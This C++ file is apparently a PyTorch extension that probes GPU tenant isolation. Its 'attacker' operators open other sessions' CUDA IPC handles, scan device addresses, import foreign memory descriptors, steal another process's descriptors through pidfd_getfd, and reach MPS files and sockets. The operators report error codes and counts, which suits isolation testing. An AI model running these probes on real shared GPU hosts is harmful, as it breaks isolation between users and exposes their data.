// Operators of an attacker who has taken a CUDA session over: they ask CUDA's driver for what
// belongs to another session. The driver is loaded by name, so that no CUDA header is needed.
// Each returns the driver's error or the errno; 0: the attempt succeeded.
#include <array>
#include <cerrno>
#include <cstdint>
#include <cstring>
#include <string>
#include <vector>

#include <dlfcn.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include <ATen/ATen.h>
#include <torch/library.h>

namespace {

using at::Tensor;
using Address = uint64_t;  // CUdeviceptr

struct IpcHandle {
  std::array<unsigned char, 64> bytes;
};

constexpr int kPosixDescriptor = 1;  // CU_MEM_HANDLE_TYPE_POSIX_FILE_DESCRIPTOR
constexpr unsigned kLazyPeerAccess = 1;

// As CUmemAllocationProp.
struct AllocationProp {
  int type = 1;  // pinned on a device
  int handle_types = kPosixDescriptor;
  int location_type = 1;  // device
  int location_id = 0;
  void* windows = nullptr;
  std::array<unsigned char, 8> flags{};
};

template <typename Function>
Function driver(const char* name) {
  static void* const library = ::dlopen("libcuda.so.1", RTLD_NOW);
  TORCH_CHECK(library != nullptr, "no driver of CUDA: ", ::dlerror());
  void* const found = ::dlsym(library, name);
  TORCH_CHECK(found != nullptr, "the driver has no ", name);
  return reinterpret_cast<Function>(found);
}

// A client takes tensors and numbers from an operator, no lists.
Tensor to_tensor(const std::vector<int64_t>& list, const Tensor& self) {
  return at::tensor(list, at::kLong).to(self.device());
}

IpcHandle to_handle(at::IntArrayRef list) {
  TORCH_CHECK(list.size() == 64, "a handle has 64 bytes");
  IpcHandle handle{};
  for (size_t i = 0; i < list.size(); ++i)
    handle.bytes[i] = static_cast<unsigned char>(list[i]);
  return handle;
}

// The first four bytes behind an address of a device; `error` as of the driver.
int64_t read(Address address, int& error) {
  int32_t value = 0;
  error = driver<int (*)(void*, Address, size_t)>("cuMemcpyDtoH_v2")(&value, address, 4);
  return value;
}

int open_handle(const IpcHandle& handle, Address& address) {
  return driver<int (*)(Address*, IpcHandle, unsigned)>("cuIpcOpenMemHandle_v2")(&address, handle,
                                                                                 kLazyPeerAccess);
}

// --- what the victim has

// Memory of cuMemAlloc, which IPC can export whatever PyTorch's allocator uses, with a value in it:
// its address and its handle.
Tensor ipc_export(const Tensor& self, int64_t secret) {
  Address address = 0;
  int error = driver<int (*)(Address*, size_t)>("cuMemAlloc_v2")(&address, 1 << 21);
  const auto value = static_cast<int32_t>(secret);
  if (error == 0)
    error = driver<int (*)(Address, const void*, size_t)>("cuMemcpyHtoD_v2")(address, &value, 4);
  IpcHandle handle{};
  if (error == 0)
    error = driver<int (*)(IpcHandle*, Address)>("cuIpcGetMemHandle")(&handle, address);
  std::vector<int64_t> told = {error, static_cast<int64_t>(address)};
  told.insert(told.end(), handle.bytes.begin(), handle.bytes.end());
  return to_tensor(told, self);
}

// Memory that can be exported as a descriptor: an error, and the number of the descriptor here.
Tensor descriptor_export(const Tensor& self) {
  uint64_t memory = 0;
  const AllocationProp prop;
  int error = driver<int (*)(uint64_t*, size_t, const AllocationProp*, uint64_t)>("cuMemCreate")(
      &memory, 1 << 21, &prop, 0);
  int descriptor = -1;
  if (error == 0)
    error = driver<int (*)(void*, uint64_t, int, uint64_t)>("cuMemExportToShareableHandle")(
        &descriptor, memory, kPosixDescriptor, 0);
  return to_tensor({error, descriptor}, self);
}

// --- what the attacker tries

// With a handle that the victim has: an error, and the value that was read.
Tensor ipc_open(const Tensor& self, at::IntArrayRef list) {
  Address address = 0;
  int error = open_handle(to_handle(list), address);
  const int64_t value = error == 0 ? read(address, error) : 0;
  return to_tensor({error, value}, self);
}

// At the addresses that the victim has: how many could be read.
int64_t read_addresses(const Tensor& /*self*/, int64_t from, int64_t count, int64_t step) {
  int64_t succeeded = 0;
  for (int64_t i = 0; i < count; ++i) {
    int error = 0;
    read(static_cast<Address>(from + i * step), error);
    succeeded += error == 0 ? 1 : 0;
  }
  return succeeded;
}

// With every descriptor that this session has: how many are memory that it did not make.
int64_t import_descriptors(const Tensor& /*self*/) {
  const auto import = driver<int (*)(uint64_t*, void*, int)>("cuMemImportFromShareableHandle");
  int64_t imported = 0;
  for (intptr_t descriptor = 0; descriptor < 4096; ++descriptor) {
    uint64_t memory = 0;
    if (::fcntl(static_cast<int>(descriptor), F_GETFD) >= 0 &&
        import(&memory, reinterpret_cast<void*>(descriptor), kPosixDescriptor) == 0)
      ++imported;
  }
  return imported;
}

// A descriptor of another process, by its number there: the errno.
int64_t steal_descriptor(const Tensor& /*self*/, int64_t pid, int64_t descriptor) {
  constexpr long kPidfdOpen = 434;
  constexpr long kPidfdGetfd = 438;
  const long process = ::syscall(kPidfdOpen, pid, 0);
  if (process < 0)
    return errno;
  const long stolen = ::syscall(kPidfdGetfd, process, descriptor, 0);
  const int error = errno;
  ::close(static_cast<int>(process));
  return stolen < 0 ? error : 0;
}

// A file of another process, or of MPS: the errno.
int64_t open_file(const Tensor& /*self*/, std::string path, bool to_write) {
  const int file = ::open(path.c_str(), (to_write ? O_WRONLY : O_RDONLY) | O_NONBLOCK);
  if (file < 0)
    return errno;
  ::close(file);
  return 0;
}

// A socket of MPS, named by path: the errno.
int64_t connect_unix(const Tensor& /*self*/, std::string path) {
  const int made = ::socket(AF_UNIX, SOCK_SEQPACKET, 0);
  if (made < 0)
    return errno;
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::strncpy(address.sun_path, path.c_str(), sizeof(address.sun_path) - 1);
  const auto* const named = reinterpret_cast<const sockaddr*>(&address);
  const int error = ::connect(made, named, sizeof(address)) == 0 ? 0 : errno;
  ::close(made);
  return error;
}

TORCH_LIBRARY(neighbours, m) {
  m.def("ipc_export(Tensor self, int secret) -> Tensor");
  m.def("descriptor_export(Tensor self) -> Tensor");
  m.def("ipc_open(Tensor self, int[] handle) -> Tensor");
  m.def("read_addresses(Tensor self, int start, int count, int step) -> int");
  m.def("import_descriptors(Tensor self) -> int");
  m.def("steal_descriptor(Tensor self, int pid, int descriptor) -> int");
  m.def("open_file(Tensor self, str path, bool to_write) -> int");
  m.def("connect_unix(Tensor self, str path) -> int");
}

TORCH_LIBRARY_IMPL(neighbours, CUDA, m) {
  m.impl("ipc_export", &ipc_export);
  m.impl("descriptor_export", &descriptor_export);
  m.impl("ipc_open", &ipc_open);
  m.impl("read_addresses", &read_addresses);
  m.impl("import_descriptors", &import_descriptors);
  m.impl("steal_descriptor", &steal_descriptor);
  m.impl("open_file", &open_file);
  m.impl("connect_unix", &connect_unix);
}

}  // namespace
